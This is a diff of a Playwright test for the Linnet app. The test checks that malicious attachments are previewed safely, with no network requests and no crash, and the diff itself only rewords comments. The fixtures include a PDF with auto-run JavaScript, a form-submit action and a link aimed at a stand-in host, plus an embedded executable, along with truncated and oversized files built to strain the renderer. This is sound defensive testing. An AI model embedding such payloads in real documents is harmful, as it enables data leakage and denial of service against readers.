@@ -2,7 +2,7 @@ import type { Page } from '@playwright/test'
 import { drawPng } from '../support/drawn-pictures.ts'
 import { expect, test } from './linnet.ts'
 
-/** Objects of a PDF, numbered from one, with the trailer that says where to begin. */
+/** A PDF of these objects, numbered from 1, with its trailer. */
 const pdf = (trailer: string, ...objects: readonly (string | Buffer)[]): Buffer =>
   Buffer.concat([
     Buffer.from('%PDF-1.7\n'),
@@ -18,11 +18,11 @@ const stream = (about: string, content: Buffer): Buffer =>
 const CATALOG = '<</Type/Catalog/Pages 2 0 R>>'
 const pages = (kids: string, count: number): string => `<</Type/Pages/Kids[${kids}]/Count ${count}>>`
 
-/** Red from edge to edge: that it is drawn can be seen. */
+/** Red from edge to edge, so that tests can see it was drawn. */
 const RED = stream('', Buffer.from('1 0 0 rg 0 0 2000 2000 re f'))
 const MANY = 10_000
 
-/** A scanned page of 32 by 32 points in JBIG2 that says of itself that it is black, and nothing else. */
+/** A scanned page of 32×32 points in JBIG2 that declares itself black and has no other data. */
 const BLACK_SCAN = Buffer.from([
   ...[0, 0, 0, 0, 0x30, 0, 1, 0, 0, 0, 19],
   ...[0, 0, 0, 32, 0, 0, 0, 32, 0, 0, 0, 0, 0, 0, 0, 0, 0x04, 0, 0],
@@ -37,7 +37,7 @@ const FILES = {
     '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>',
   ),
   'cut.pdf': Buffer.from('%PDF-1.7\n1 0 obj<</Type/Cat'),
-  // Scripts at its opening, a form that is sent, a link, and a file in it.
+  // A script on opening, a submitted form, a link, and an embedded file.
   'active.pdf': pdf(
     '',
     '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("https://hostile.example/js"\\))>>/AA<</WC<</S/URI/URI(https://hostile.example/aa)>>>>/AcroForm<</Fields[5 0 R]/XFA(<x/>)>>/Names<</EmbeddedFiles<</Names[(a.exe) 6 0 R]>>>>>>',
@@ -47,7 +47,7 @@ const FILES = {
     '<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 200 200]/A<</S/SubmitForm/F(https://hostile.example/form)>>>>',
     '<</Type/Filespec/F(https://hostile.example/file)/EF<</F 4 0 R>>>>',
   ),
-  // Its first page is a mile long, and then come thousands.
+  // The first page is a mile long, and thousands follow.
   'long.pdf': pdf(
     '',
     CATALOG,
@@ -86,7 +86,6 @@ const FILES = {
 
 const preview = (page: Page, name: string) => page.getByRole('dialog', { name: `Preview of ${name}` })
 
-/** How much of what is drawn of a page is red. */
 const redness = (page: Page, number: number): Promise<number> =>
   page
     .getByRole('img', { name: `Page ${number}`, exact: true })
@@ -98,7 +97,7 @@ const redness = (page: Page, number: number): Promise<number> =>
       return red / (points.length / 4)
     })
 
-test('attachments that were made to do harm are shown or said in words, fetch nothing, and never take the window with them', async ({
+test('previews malicious attachments or explains why not, without a request or a crash', async ({
   linnet,
   platform,
 }) => {
@@ -138,7 +137,7 @@ test('attachments that were made to do harm are shown or said in words, fetch no
   await expect.poll(() => redness(page, 10_000)).toBeGreaterThan(0.9)
   const large = await next('large-picture.pdf')
   await expect(large.getByText('Parts of this PDF are not shown.')).toBeVisible()
-  // Read by a script of Linnet's own files, as no WebAssembly runs (S12).
+  // Decoded by a script that ships with Linnet, because no WebAssembly runs (S12).
   await expect((await next('scan.pdf')).getByText('Page 1 of 1')).toBeVisible()
   await expect.poll(() => redness(page, 1)).toBeGreaterThan(0.9)
   await expect((await next('wall.png')).getByText('This picture is too large to show')).toBeVisible()
@@ -150,7 +149,7 @@ test('attachments that were made to do harm are shown or said in words, fetch no
   await expect(line.locator('pre')).toHaveCount(2)
   await page.keyboard.press('Escape')
   await expect(page.getByRole('button', { name: 'Open none.pdf' })).toBeFocused()
-  // A scheme of one's own has no origin to a parser.
+  // To a parser, a custom scheme has no origin.
   const own = page.url().split('/').slice(0, 3).join('/')
   expect(asked.filter((url) => !url.startsWith(own) && !/^(?:data|blob|about):/.test(url))).toEqual([])
 })
